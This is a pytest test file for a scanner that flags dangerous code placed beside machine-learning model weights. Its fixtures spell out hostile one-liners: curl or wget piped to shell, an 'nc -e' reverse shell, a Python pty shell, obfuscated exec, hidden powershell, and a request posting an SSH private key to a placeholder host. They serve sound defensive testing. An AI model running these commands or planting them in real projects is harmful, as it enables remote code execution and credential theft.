"""What lies beside a model, in a folder on disk: scripts, native code, cards and notebooks, and the same where no model is."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.artifacts.looking import DANGEROUS, NOTHING, SUSPICIOUS
from vetline.artifacts.verdict import Level
from vetline.core.finding import Problem
from vetline.host import artifact_files
from vetline.host.files import PathPatterns

FETCHED = "curl http://x.invalid/x | sh"
INSTALLER = "curl -LsSf https://x.invalid/install.sh | sh"
PYC = "\xa7\r\r\n" + "\0" * 12 + "\xe3" + "\0" * 20
RUNS = "import os\nos.system('x')\n"
SHELL = "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"
HONEST = "import os, subprocess\n\ndef main():\n    os.makedirs('out')\n    subprocess.run(['git', 'add', 'out'])\n\nif __name__ == '__main__':\n    main()\n"
REGISTERED = "import os, spacy\n@spacy.registry.callbacks('x')\ndef f():\n    os.system('x')\n"
HELD = "import base64\nexec(base64.b64decode('eA=='))\n"
CODE = {"cell_type": "code", "source": [f"!{FETCHED}"]}
WEIGHTS = {"model.safetensors": ""}


def notebook(*cells: Any) -> str:
    return json.dumps({"nbformat": 4, "metadata": {}, "cells": list(cells)})


CASES: list[tuple[str, dict[str, str], Level, str]] = [
    ("a script that fetches what it runs", {**WEIGHTS, "x.sh": FETCHED}, DANGEROUS, "a script that runs what it downloads"),
    ("a makefile that does", {**WEIGHTS, "Makefile": f"all:\n\t{FETCHED}\n"}, DANGEROUS, "a script that runs what it downloads"),
    ("an installer", {**WEIGHTS, "x.sh": f"#!/bin/sh\n{INSTALLER}\n"}, SUSPICIOUS, "a script that runs what it downloads"),
    ("a command that nobody can read", {**WEIGHTS, "x.bat": "powershell -w hidden -enc SQBFAFgA\n"}, DANGEROUS, "powershell"),
    ("a script that only fetches", {**WEIGHTS, "x.sh": "#!/bin/sh\ncurl -LO https://x.invalid/v.txt\n"}, NOTHING, ""),
    ("a cell that does", {**WEIGHTS, "x.ipynb": notebook(CODE)}, DANGEROUS, "a cell runs what it downloads"),
    ("a cell that speaks of it", {**WEIGHTS, "x.ipynb": notebook({**CODE, "cell_type": "markdown"}, {**CODE, "source": "os.system('ls')"})}, NOTHING, ""),
    ("a shell for somebody else", {**WEIGHTS, "x.py": SHELL}, DANGEROUS, "hands a shell"),
    ("code that is hidden", {**WEIGHTS, "x.py": HELD}, DANGEROUS, "hands exec what base64.b64decode gives"),
    ("a program that runs when it is imported", {**WEIGHTS, "x.py": RUNS}, SUSPICIOUS, "line 2 calls os.system"),
    ("a function that a registry calls", {"meta.json": "{}", "x.py": REGISTERED}, SUSPICIOUS, "line 4 calls os.system"),
    ("a shell by a tool for the network", {**WEIGHTS, "x.sh": "nc -e /bin/sh 192.0.2.1 99\n"}, DANGEROUS, "nc -e"),
    ("a program that is fetched and run", {**WEIGHTS, "x.sh": "wget http://x.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a\n"}, DANGEROUS, "runs what it downloads"),
    ("code that is spelled by numbers", {**WEIGHTS, "x.py": "exec(''.join(map(chr, [112])))\n"}, DANGEROUS, "what chr gives"),
    ("a secret that is sent", {**WEIGHTS, "x.py": "import requests\nrequests.post('http://x.invalid', data=open('/root/.ssh/id_rsa'))\n"}, DANGEROUS, "calls the network"),
    ("a path file behind a mark of its encoding", {"x.pth": "\xef\xbb\xbfimport os\n"}, DANGEROUS, "each start of Python"),
    ("what a tool's loader imports", {"tool_config.json": "{}", "tool.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("an honest script", {**WEIGHTS, "x.py": HONEST}, NOTHING, ""),
    ("a script that says how to install", {**WEIGHTS, "x.py": f'"""Install: {FETCHED}"""\n'}, NOTHING, ""),
    ("what a loader imports", {"config.json": "{}", "x.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("what a loader imports from below", {"generation_config.json": "{}", "custom_generate/generate.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("what a loader imports of a folder alone", {"custom_generate/generate.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("a data set's script", {"x.py": f"import datasets\n{RUNS}class D(datasets.GeneratorBasedBuilder):\n    pass\n"}, DANGEROUS, "line 3 calls os.system"),
    ("what stands in a package's place", {**WEIGHTS, "torch.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("a package", {**WEIGHTS, "x/__init__.py": RUNS}, DANGEROUS, "line 2 calls os.system"),
    ("native code", {**WEIGHTS, "x.so": "\x7fELF\2\1\1"}, SUSPICIOUS, "native library"),
    ("native code beside a graph", {"saved_model.pb": "", "assets.extra/x.so": "\x7fELF\2\1\1"}, SUSPICIOUS, "native library"),
    ("a project that has a model", {**WEIGHTS, "pyproject.toml": "", "x.py": RUNS, "x.so": "\x7fELF\2\1\1", "x.sh": FETCHED}, NOTHING, ""),
    ("a source that settings name", {"config.yaml": "model:\n  class_path: net.Net\n", "net.py": RUNS}, DANGEROUS, "calls"),
    ("a source that a catalogue names", {"conf/base/catalog.yml": "x:\n  type: ds.Data\n  filepath: x.csv\n", "ds.py": RUNS}, DANGEROUS, "calls"),
    ("a source that MLflow loads", {"MLmodel": "flavors:\n  python_function:\n    loader_module: net\n    code: code\n", "code/net.py": RUNS}, DANGEROUS, "calls"),
    ("a source that Triton serves", {"m/config.pbtxt": "name: 'm'\nbackend: \"python\"\n", "m/1/model.py": RUNS}, DANGEROUS, "calls"),
    ("a source that BentoML serves", {"bentofile.yaml": "service: \"net:svc\"\n", "net.py": RUNS}, DANGEROUS, "calls"),
    ("a module of sentence-transformers", {"modules.json": '[{"idx": 0, "name": "0", "path": "", "type": "net.Net"}]', "net.py": RUNS}, DANGEROUS, "calls"),
    ("a part of a pipeline", {"model_index.json": '{"unet": ["net", "Net"]}', "unet/net.py": RUNS}, DANGEROUS, "calls"),
    ("bytecode that is not its source's", {"m.npz": "", "net.py": "x = 1\n", "__pycache__/net.cpython-311.pyc": PYC + "\xda\x06system"}, DANGEROUS, "names system, which the source does not"),
    ("bytecode that nothing compares", {"m.npz": "", "net.py": "x = 1\n", "__pycache__/net.cpython-311.pyc": PYC.replace("\0\0\0\0", "\1\0\0\0", 1)}, DANGEROUS, "nothing compares them"),
    ("bytecode of a source", {"m.npz": "", "net.py": "def f():\n    import os\n    os.system('x')\n", "__pycache__/net.cpython-311.pyc": PYC + "\xda\x06system"}, NOTHING, ""),
    ("a processor's source", {"preprocessor_config.json": "{}", "p.py": RUNS}, DANGEROUS, "calls"),
    ("a source that builds", {"m.npz": "", "pyproject.toml": "[build-system]\nbuild-backend = 'own'\nbackend-path = ['.']\n", "own.py": RUNS}, DANGEROUS, "calls"),
    ("SageMaker's source", {"model.npz": "", "code/inference.py": RUNS}, DANGEROUS, "calls"),
    ("a source that settings do not name", {"config.yaml": "model:\n  class_path: torch.nn.Linear\n", "net.py": RUNS}, NOTHING, ""),
    ("a hook of Git's beside a model", {"m.npz": "", ".git/HEAD": "ref: x", ".git/hooks/post-checkout": FETCHED}, DANGEROUS, "a hook of Git's"),
    ("a sample of a hook", {"m.npz": "", ".git/HEAD": "ref: x", ".git/hooks/post-checkout.sample": FETCHED}, NOTHING, ""),
    ("code alone", {"x.py": RUNS, "x.sh": FETCHED}, NOTHING, ""),
    ("what is installed", {"site-packages/p/m.npz": "", "site-packages/p/x.py": RUNS, "site-packages/p/x.so": "\x7fELF\2\1\1"}, NOTHING, ""),
    ("a card that reads elsewhere", {"README.md": "---\nconfigs:\n- data_files:\n  - path: ../../etc/*\n---\n"}, SUSPICIOUS, "data is read from ../../etc/*"),
    ("a card", {"README.md": "---\nconfigs:\n- data_files: data/*\n---\nsee ../../etc\n"}, NOTHING, ""),
]


@pytest.mark.parametrize(("files", "verdict", "words"), [row[1:] for row in CASES], ids=[row[0] for row in CASES])
def test_what_lies_beside_a_model(tmp_path: Path, files: dict[str, str], verdict: Level, words: str) -> None:
    for name, content in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode("latin-1"))
    problems: list[Problem] = []
    found = [file.known or artifact_files.inspect(file.path) for file in artifact_files.find([str(tmp_path)], PathPatterns([]), str(tmp_path), problems)]
    remarks = [remark for one in found for remark in one.remarks]
    assert max((remark.level for remark in remarks), default=NOTHING) is verdict, remarks
    assert words in "\n".join(remark.message for remark in remarks)
    assert problems == []
